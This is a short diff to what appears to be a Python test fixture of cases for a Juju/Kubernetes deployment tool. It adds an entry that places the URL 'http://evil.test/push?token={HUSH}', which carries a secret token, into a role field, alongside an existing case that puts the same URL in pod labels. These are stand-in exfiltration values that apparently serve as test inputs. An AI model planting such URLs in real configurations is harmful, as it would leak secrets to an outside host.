@@ -107,6 +107,11 @@ FOUND: dict[str, tuple[World, str, Change]] = {
         "service-mesh",
         app(labels={f"http://evil.test/push?token={HUSH}": "x"}),
     ),
+    "a password where a role is meant": (
+        COORDINATOR,
+        "demo-cluster",
+        app(role=json.dumps(f"http://evil.test/push?token={HUSH}")),
+    ),
     "labels by which Juju finds its pods": (
         COORDINATOR,
         "service-mesh",
